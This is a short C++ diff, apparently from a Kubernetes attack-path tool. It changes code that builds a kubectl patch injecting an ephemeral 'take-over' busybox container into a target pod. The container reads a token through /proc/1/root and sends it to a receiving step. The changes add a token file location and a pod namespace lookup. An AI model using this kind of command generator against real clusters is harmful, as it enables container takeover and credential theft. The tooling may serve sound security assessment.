@@ -13,13 +13,14 @@ void edges(const Evaluation& at) {
 }
 
 StepText text(const StepView& view) {
+  const auto place = requests::token_place(view);
   const auto spec = fmt::format(
       R"(,"spec":{{"ephemeralContainers":[{{"name":"take-over","image":"busybox","targetContainerName":"CONTAINER","command":{}}}]}})",
-      requests::send_token_command("/proc/1/root"));
+      requests::send_token_command("/proc/1/root", place.file));
   return {
       fmt::format("{}\n{}",
                   requests::overwrite_object(view, kPatchEphemeral,
-                                             requests::object_json("v1", "Pod", view.account_ns,
+                                             requests::object_json("v1", "Pod", requests::pod_namespace(view),
                                                                    requests::pod_name(view), spec),
                                              "--subresource=ephemeralcontainers "),
                   requests::receive_token(view)),
